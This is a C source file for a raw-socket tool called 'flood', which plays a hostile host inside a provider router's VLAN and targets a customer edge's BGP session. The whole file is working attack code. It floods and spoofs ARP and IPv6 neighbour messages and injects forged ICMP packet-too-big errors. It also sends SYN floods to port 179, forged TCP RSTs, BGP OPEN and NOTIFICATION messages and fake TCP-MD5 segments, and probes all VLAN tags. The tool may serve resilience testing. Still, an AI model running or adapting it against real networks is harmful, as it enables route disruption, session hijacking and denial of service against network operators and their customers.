/* SPDX-License-Identifier: ISC */
/* One who means ill, in the MSEE's VLAN: flood PORT CE-MAC CE MSEE CE-PORT MSEE-PORT HOW-MUCH
 * KIND... sends a mixture of KINDs from port PORT, HOW-MUCH frames ("200") or as fast as it can for
 * so long ("10s"), and prints how many. All in the MSEE's name, from hardware addresses of its own,
 * and over IPv6 where the addresses are such, with ND for ARP:
 *   arp            who-has of strangers, and a stranger in each
 *   spoof          "the MSEE's address is here"
 *   toobig         ICMP errors about segments that the CE never sent
 *   syn            SYNs to the CE's port 179
 *   signed         the like, RSTs and NOTIFICATIONs with a false TCP-MD5 option
 *   rst data open notification
 *                  segments of the session, at places in the stream where it is not
 *   trunk          the same ARP requests as the MSEE's, under the tags 1 to 4094 */
#define _GNU_SOURCE /* sendmmsg(2) */
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { FRAME = 128, FRAMES = 8192, AT_ONCE = 64, KINDS = 10 };
enum { SYN = 2, RST = 4, ACK = 16 };

static const char *const kinds[KINDS] = {"arp",  "spoof", "syn",          "signed", "rst",
					 "data", "open",  "notification", "toobig", "trunk"};

static struct {
	uint8_t ce_mac[6];
	uint8_t ce[16], msee[16];
	size_t len; /* of an address */
	uint16_t ce_port, msee_port;
} victim;

struct frame {
	uint8_t at[FRAME];
	size_t len;
};

static void put(struct frame *f, const void *from, size_t len)
{
	memcpy(f->at + f->len, from, len);
	f->len += len;
}
static void put8(struct frame *f, unsigned int v)
{
	f->at[f->len++] = (uint8_t)v;
}
static void put16(struct frame *f, unsigned int v)
{
	put8(f, v >> 8);
	put8(f, v);
}
static void put32(struct frame *f, uint32_t v)
{
	put16(f, v >> 16);
	put16(f, v);
}

static uint32_t any(void)
{
	static uint32_t x = 2463534242;

	x ^= x << 13;
	x ^= x >> 17;
	return x ^= x << 5;
}

static void put_ethernet(struct frame *f, int tag, unsigned int type)
{
	static const uint8_t everyone[6] = {255, 255, 255, 255, 255, 255};

	put(f, type == 0x806 ? everyone : victim.ce_mac, 6);
	put32(f, 0x02bad000);
	put16(f, any() & 15); /* sixteen of them */
	if (tag > 0)
		put32(f, 0x81000000 | (uint32_t)tag);
	put16(f, type);
}

static uint16_t sum(const uint8_t *at, size_t len, uint32_t start)
{
	for (size_t i = 0; i < len; i++)
		start += i % 2 == 0 ? (uint32_t)at[i] << 8 : at[i];
	while (start >> 16)
		start = (start & 0xffff) + (start >> 16);
	return (uint16_t)~start;
}

static void store16(uint8_t *at, uint16_t v)
{
	at[0] = (uint8_t)(v >> 8);
	at[1] = (uint8_t)v;
}

/* RFC 791, RFC 8200. */
static void put_ip(struct frame *f, unsigned int protocol, size_t len, const uint8_t *from,
		   const uint8_t *to)
{
	size_t at = f->len;

	if (victim.len == 16) {
		put32(f, 0x6c000000);
		put16(f, (unsigned int)len);
		put8(f, protocol);
		put8(f, 255);
	} else {
		put16(f, 0x45c0);
		put16(f, (unsigned int)(20 + len));
		put32(f, 0);
		put32(f, 0xff000000 | protocol << 16);
	}
	put(f, from, victim.len);
	put(f, to, victim.len);
	if (victim.len == 4)
		store16(f->at + at + 10, sum(f->at + at, 20, 0));
}

static unsigned int ip_type(void)
{
	return victim.len == 16 ? 0x86dd : 0x800;
}

/* With the pseudo-header: both addresses, protocol, length. */
static void sum_store(struct frame *f, size_t at, size_t offset, unsigned int protocol)
{
	uint32_t start = protocol + (uint32_t)(f->len - at);
	uint16_t addresses = (uint16_t)~sum(f->at + at - 2 * victim.len, 2 * victim.len, start);

	store16(f->at + at + offset, sum(f->at + at, f->len - at, addresses));
}

/* RFC 826; RFC 4861 4.3, 4.4: FROM asks for TARGET, or tells of itself. */
static void put_neighbour(struct frame *f, int tag, const uint8_t *from, const uint8_t *target)
{
	int tells = memcmp(from, target, victim.len) == 0;

	put_ethernet(f, tag, victim.len == 16 ? 0x86dd : 0x806);
	if (victim.len == 16) {
		size_t icmp = f->len + 40;

		put_ip(f, 58, 32, from, victim.ce);
		put32(f, tells ? 0x88000000 : 0x87000000);
		put32(f, tells ? 0x20000000 : 0);
		put(f, target, 16);
		put16(f, tells ? 0x0201 : 0x0101);
		put(f, f->at + 6, 6);
		sum_store(f, icmp, 2, 58);
		return;
	}
	put32(f, 0x00010800);
	put32(f, 0x06040001);
	put(f, f->at + 6, 6);
	put(f, from, 4);
	put32(f, 0);
	put16(f, 0);
	put(f, target, 4);
}

static void put_stranger(struct frame *f)
{
	uint8_t from[16] = {192, 0, 2, (uint8_t)any()};

	if (victim.len == 16) {
		from[0] = 0x20;
		from[15] = (uint8_t)any();
	}
	put_neighbour(f, 0, from, victim.ce);
}

/* RFC 792, RFC 4443 3.2: an MTU of 1280, of a segment from a place in the stream that is a guess.
 */
static void put_too_big(struct frame *f)
{
	size_t quote = victim.len == 16 ? 40 : 20, icmp = 14 + quote;

	put_ethernet(f, 0, ip_type());
	put_ip(f, victim.len == 16 ? 58 : 1, 8 + quote + 8, victim.msee, victim.ce);
	put32(f, victim.len == 16 ? 0x02000000 : 0x03040000);
	put32(f, 1280);
	put_ip(f, 6, 1480, victim.ce, victim.msee);
	put16(f, victim.ce_port);
	put16(f, victim.msee_port);
	put32(f, any());
	if (victim.len == 16)
		sum_store(f, icmp, 2, 58);
	else
		store16(f->at + icmp + 2, sum(f->at + icmp, f->len - icmp, 0));
}

static void put_tcp(struct frame *f, unsigned int flags, const uint8_t *data, size_t len, int sign)
{
	unsigned int from = flags == SYN ? 1024 + any() % 60000 : victim.msee_port;
	unsigned int to = flags == SYN ? 179 : victim.ce_port;
	size_t header = sign ? 40 : 20, tcp;

	put_ethernet(f, 0, ip_type());
	put_ip(f, 6, header + len, victim.msee, victim.ce);
	tcp = f->len;
	put16(f, from);
	put16(f, to);
	put32(f, any());
	put32(f, flags == SYN ? 0 : any());
	put16(f, (unsigned int)(header / 4) << 12 | flags);
	put32(f, 0xffff0000);
	put16(f, 0);
	if (sign) {
		put16(f, 19 << 8 | 18);
		for (int i = 0; i < 4; i++)
			put32(f, any());
		put16(f, 0);
	}
	put(f, data, len);
	sum_store(f, tcp, 16, 6);
}

static void put_bgp(struct frame *f, uint8_t type, const void *body, size_t len, int sign)
{
	uint8_t m[64];

	memset(m, 255, 16);
	store16(m + 16, (uint16_t)(19 + len));
	m[18] = type;
	memcpy(m + 19, body, len);
	put_tcp(f, ACK, m, 19 + len, sign);
}

static void frame_make(struct frame *f, int kind, int n)
{
	static const uint8_t open[] = {4, 0xfe, 0x4b, 0, 90, 10, 9, 8, 7, 0}, shutdown[] = {6, 2};

	f->len = 0;
	switch (kind) {
	case 0:
		put_stranger(f);
		return;
	case 1:
		put_neighbour(f, 0, victim.msee, victim.msee);
		return;
	case 2:
		put_tcp(f, SYN, NULL, 0, 0);
		return;
	case 3:
		if (n % 3 == 2)
			put_bgp(f, 3, shutdown, sizeof(shutdown), 1);
		else
			put_tcp(f, n % 3 == 0 ? SYN : RST, NULL, 0, 1);
		return;
	case 4:
		put_tcp(f, RST, NULL, 0, 0);
		return;
	case 5:
		put_tcp(f, ACK, (const uint8_t *)"not BGP at all", 14, 0);
		return;
	case 6:
		put_bgp(f, 1, open, sizeof(open), 0);
		return;
	case 7:
		put_bgp(f, 3, shutdown, sizeof(shutdown), 0);
		return;
	case 8:
		put_too_big(f);
		return;
	default:
		put_neighbour(f, 1 + n % 4094, victim.msee, victim.ce);
		return;
	}
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t frames_send(int fd, struct frame *frames, uint64_t count, double until_s)
{
	struct mmsghdr batch[AT_ONCE] = {0};
	struct iovec parts[AT_ONCE];
	uint64_t sent = 0;

	while (sent < count && now_s() < until_s) {
		for (size_t i = 0; i < AT_ONCE; i++) {
			struct frame *f = &frames[(sent + i) % FRAMES];

			parts[i] = (struct iovec){f->at, f->len};
			batch[i].msg_hdr.msg_iov = &parts[i];
			batch[i].msg_hdr.msg_iovlen = 1;
		}
		int n = sendmmsg(fd, batch,
				 count - sent < AT_ONCE ? (unsigned int)(count - sent) : AT_ONCE,
				 0);

		sent += n > 0 ? (uint64_t)n : 0; /* full: again */
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET};
	struct frame *frames = calloc(FRAMES, sizeof(*frames));
	uint8_t *m = victim.ce_mac;
	int chosen[KINDS], count = 0;
	char *unit;

	for (int i = 8; i < argc; i++)
		for (int k = 0; k < KINDS && count < KINDS; k++)
			if (strcmp(argv[i], kinds[k]) == 0)
				chosen[count++] = k;
	if (count == 0 || count != argc - 8 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4,
		   m + 5) != 6) {
		fputs("usage: flood PORT CE-MAC CE MSEE CE-PORT MSEE-PORT HOW-MUCH KIND...\n",
		      stderr);
		return 2;
	}
	victim.len = strchr(argv[3], ':') ? 16 : 4;
	for (int i = 0; i < 2; i++)
		if (inet_pton(victim.len == 16 ? AF_INET6 : AF_INET, argv[3 + i],
			      i == 0 ? victim.ce : victim.msee) != 1)
			return 2;
	victim.ce_port = (uint16_t)atoi(argv[5]);
	victim.msee_port = (uint16_t)atoi(argv[6]);
	for (int i = 0; i < FRAMES; i++)
		frame_make(&frames[i], chosen[i % count], i / count);

	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	at.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) != 0) {
		perror(argv[1]);
		return 1;
	}
	uint64_t limit = strtoull(argv[7], &unit, 10);
	double until_s = now_s() + (*unit == 's' ? (double)limit : 60);

	printf("%llu\n", (unsigned long long)frames_send(
				 fd, frames, *unit == 's' ? UINT64_MAX : limit, until_s));
	free(frames);
	return 0;
}
